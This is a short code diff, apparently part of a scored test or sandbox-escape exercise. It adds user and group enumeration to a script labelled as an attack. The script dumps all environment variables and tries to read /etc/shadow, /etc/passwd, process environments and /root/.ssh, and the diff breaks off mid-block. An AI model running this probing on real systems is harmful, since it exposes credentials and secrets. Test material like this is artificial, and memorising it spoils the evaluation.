@@ -1,7 +1,8 @@
 # Attack: prints its environment and the files of its account
 # Scores: first 5, second 2, third 3
 # %% above first
-import os
+import grp, os, pwd
+print("ACCOUNTS", sorted(one.pw_name for one in pwd.getpwall()), sorted(one.gr_name for one in grp.getgrall()))
 print(dict(os.environ))
 for name in ('/etc/shadow', '/etc/passwd', '/proc/1/environ', '/proc/self/environ', '/root/.ssh', '/run'):
     try:
